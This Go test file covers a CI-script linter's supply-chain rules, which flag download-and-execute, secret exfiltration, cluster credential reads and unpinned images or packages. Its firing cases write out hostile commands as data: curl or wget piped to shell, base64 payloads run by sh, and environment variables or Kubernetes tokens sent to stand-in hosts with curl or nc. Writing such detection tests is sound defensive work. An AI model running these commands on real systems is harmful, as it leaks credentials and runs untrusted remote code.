package supply

import (
	"fmt"
	"testing"

	"taskgate.dev/taskgate/internal/ruletest"
	"taskgate.dev/taskgate/pkg/check"
)

// Every rule's Bad example fires it and its Fixed example does not.
func TestExamples(t *testing.T) { ruletest.Examples(t, Checks) }

// cases runs one rule over single-script Tasks: each script either fires
// it (at least once) or not at all.
func cases(t *testing.T, c *check.Check, fire bool, scripts ...string) {
	t.Helper()
	for i, sc := range scripts {
		t.Run(fmt.Sprintf("%v/%d", fire, i), func(t *testing.T) {
			fs := ruletest.Of(ruletest.Run(c, ruletest.Sub(t, example("x", sc))), c.ID)
			if fire && len(fs) == 0 {
				t.Errorf("%s does not fire on:\n%s", c.ID, sc)
			}
			if !fire && len(fs) > 0 {
				t.Errorf("%s fires on:\n%s\n%s", c.ID, sc, ruletest.Dump(fs))
			}
		})
	}
}

func TestDownloadExec(t *testing.T) {
	cases(t, DownloadExec, true,
		"curl -sSfL https://x.example/i.sh | sh",
		"curl -s https://x.example/i.sh | sudo bash -s -- --yes",
		"wget -qO- https://x.example/i.py | python3",
		"wget -q -O - https://x.example/i.sh | bash",
		"curl -s https://x.example/i.sh.gz | gunzip | sh",
		"source <(curl -s https://x.example/env.sh)",
		". <(curl -s https://x.example/env.sh)",
		"bash <(wget -O- -o/dev/null https://codecov.io/bash) \"$@\"",
		`eval "$(curl -s https://x.example/env)"`,
		`sh -c "$(curl -fsSL https://x.example/i.sh)"`,
		`python3 -c "$(curl -s https://x.example/p.py)"`,
		"echo ZWNobyBoaQo= | base64 -d | sh",
		"echo ZWNobyBoaQo= | base64 --decode | bash",
		`eval "$(echo ZWNobyBoaQo= | base64 -d)"`,
		"printf %s \"$P\" | xxd -r -p | sh",
	)
	cases(t, DownloadExec, false,
		"curl -s https://api.example/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"v\"])'",
		"curl -s https://api.example/v1 | jq -r .version",
		"curl -sSfL -o /tmp/i.sh https://x.example/i.sh",
		"# curl https://x.example/i.sh | sh",
		`echo "never run curl https://x.example | sh"`,
		"echo hi | sh -c 'cat'",
		"cat script.sh | sh",
		"echo aGk= | base64 -d > /tmp/out",
		`eval "$(ssh-agent -s)"`,
		"curl -s https://x.example | sh script.sh",
	)
}

func TestExfiltration(t *testing.T) {
	cases(t, Exfiltration, true,
		"env | curl -sS -X POST --data-binary @- https://h.example",
		"printenv | base64 | nc h.example 443",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- https://h.example",
		`curl -d "$(env)" https://h.example`,
		`curl -H "X: $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://h.example`,
		"curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://h.example",
		"curl -T ~/.kube/config https://h.example",
		"nc h.example 443 < /proc/self/environ",
	)
	cases(t, Exfiltration, false,
		"env | sort",
		"env | grep -q FOO && curl -s https://h.example",
		`curl -d "status=$(date)" https://h.example`,
		"printenv HOME | curl -d @- https://h.example",
		`curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api`,
		"curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://h.example",
	)
}

func TestClusterCredentials(t *testing.T) {
	cases(t, ClusterCredentials, true,
		"TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
		"kubectl --token=\"$(< /var/run/secrets/kubernetes.io/serviceaccount/token)\" get pods",
		"cp ~/.kube/config /tmp/k",
		"tr '\\0' '\\n' < /proc/1/environ",
	)
	cases(t, ClusterCredentials, false,
		"NS=$(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace)",
		"# reads /var/run/secrets/kubernetes.io/serviceaccount/token? no",
		"kubectl get pods",
	)
}

func TestFloatingImage(t *testing.T) {
	cases(t, FloatingImage, true,
		"skopeo copy docker://quay.io/x/y:latest oci:/tmp/y",
		"skopeo copy --all --authfile /a.json docker://quay.io/x/y:1.2 dir:/tmp/y",
		"oras pull quay.io/x/artifact:latest",
		"retry oras pull --registry-config /a.json quay.io/x/artifact:v1",
		"sudo podman pull registry.access.redhat.com/ubi9/ubi",
		"docker pull ubuntu",
		`skopeo copy "docker://${REGISTRY}/tool:latest" oci:/tmp/t`,
		"crane export quay.io/x/y:latest - | tar -x",
	)
	cases(t, FloatingImage, false,
		"skopeo copy docker://quay.io/x/y@sha256:95413c8dacaac773421428947a431c1cb099d19b4b1125df77d5d1cd2f463ab8 oci:/tmp/y",
		`skopeo copy "docker://$IMAGE" oci:/tmp/y`,
		`skopeo copy "docker://$(params.image)" oci:/tmp/y`,
		`oras pull "${ARTIFACT_URL}"`,
		"skopeo copy docker://$REPO@$DIGEST docker://$OUT",
		"skopeo inspect docker://quay.io/x/y:latest",
		"podman push quay.io/x/y:latest",
		"skopeo copy oci:/tmp/y docker://quay.io/x/y:latest",
	)
}

func TestFloatingPackage(t *testing.T) {
	cases(t, FloatingPackage, true,
		"pip install yamllint",
		"python3 -m pip install --user requests",
		"pip3 install -q pytest==8.0.0 coverage",
		"npm install -g yarn",
		"npm i -g @scope/tool",
		"go install golang.org/x/tools/cmd/goimports@latest",
		"gem install rake",
	)
	cases(t, FloatingPackage, false,
		"pip install yamllint==1.35.1",
		"pip install -r requirements.txt",
		"pip install -e .",
		"pip install ./dist/tool-1.0.whl",
		`pip install "$PKG"`,
		"npm install",
		"npm ci",
		"npm install -g yarn@1.22.19",
		"go install golang.org/x/tools/cmd/goimports@v0.20.0",
		"gem install rake -v 13.0.6",
	)
}
